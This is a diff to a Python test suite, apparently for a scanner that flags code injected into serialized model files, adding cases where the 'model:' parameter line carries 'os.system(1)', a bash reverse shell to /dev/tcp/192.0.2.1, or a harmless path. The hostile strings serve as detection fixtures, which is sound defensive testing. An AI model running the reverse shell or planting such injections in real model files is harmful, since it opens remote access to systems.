@@ -65,6 +65,21 @@ CASES = {
         lambda: model(tree() + "decision_type=<=\nhook=__import__('os').system('echo modelsweep-test')\n"),
         Verdict.REVIEW,
     ),
+    "code_in_the_parameters": case(
+        lambda: model(end=PARAMETERS.replace("model: ", "model: os.system(1)") + PANDAS),
+        Verdict.REVIEW,
+        cut_is_clean=True,
+    ),
+    "attack_in_the_parameters": case(
+        lambda: model(end=PARAMETERS.replace("model: ", "model: sh -i >& /dev/tcp/192.0.2.1/9 0>&1") + PANDAS),
+        Verdict.REVIEW,
+        cut_is_clean=True,
+    ),
+    "benign_parameters": case(
+        lambda: model(end=PARAMETERS.replace("model: ", "model: /data/os.system/model.txt") + PANDAS),
+        Verdict.CLEAN,
+        cut_is_clean=True,
+    ),
     "benign_bin": case(lambda: model(end=PARAMETERS).rstrip(), Verdict.CLEAN, "model.bin"),
     "benign_windows": case(lambda: model(end=PARAMETERS).replace(b"\n", b"\r\n").rstrip(), Verdict.CLEAN, "model.lgb"),
     "benign_old": case(lambda: model(version="v2", end=""), Verdict.CLEAN, cut_is_clean=True),
